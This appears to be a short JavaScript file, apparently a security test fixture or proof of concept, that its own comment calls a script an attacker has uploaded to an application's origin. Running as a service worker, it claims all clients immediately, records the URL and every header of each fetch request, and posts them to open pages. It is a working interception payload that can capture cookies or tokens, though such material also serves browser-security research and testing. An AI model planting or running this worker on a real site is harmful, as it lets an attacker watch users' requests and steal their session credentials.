/** A script that the attacker has uploaded to the application's own origin. It listens as a worker or a service worker. */
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  const heard = [event.request.url, [...event.request.headers]];
  event.waitUntil(self.clients.matchAll({ includeUncontrolled: true }).then((clients) => clients.forEach((client) => client.postMessage(heard))));
});
self.addEventListener('connect', ({ ports }) => ports[0].postMessage('here'));
self.postMessage?.('here');
